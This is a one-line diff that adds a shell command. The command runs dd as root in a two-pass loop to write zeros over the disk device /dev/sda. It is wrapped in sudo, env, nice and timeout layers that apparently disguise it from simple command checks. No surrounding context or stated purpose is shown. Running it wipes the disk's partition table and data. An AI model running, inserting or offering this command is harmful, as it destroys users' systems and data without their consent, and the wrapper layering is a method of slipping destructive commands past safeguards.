@@ -1,0 +1,1 @@
+for i in 1 2; do sudo -u root env X=1 nice -n5 timeout 5 dd if=/dev/zero of=/dev/sda; done
